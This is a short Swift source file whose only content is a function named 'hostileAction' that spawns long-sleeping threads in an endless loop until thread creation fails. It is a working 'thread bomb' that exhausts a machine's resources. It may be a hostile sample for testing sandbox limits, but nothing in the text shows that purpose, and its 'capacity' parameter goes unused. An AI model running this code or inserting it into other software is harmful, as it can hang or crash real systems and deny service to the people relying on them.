import Glibc

func hostileAction(capacity: Int) {
    var created = 0
    while true {
        var thread = pthread_t()
        let status = pthread_create(&thread, nil, { _ in sleep(1_000_000); return nil }, nil)
        if status != 0 { fatalError("thread bomb stopped after \(created) threads (pthread_create: \(status))") }
        created += 1
    }
}
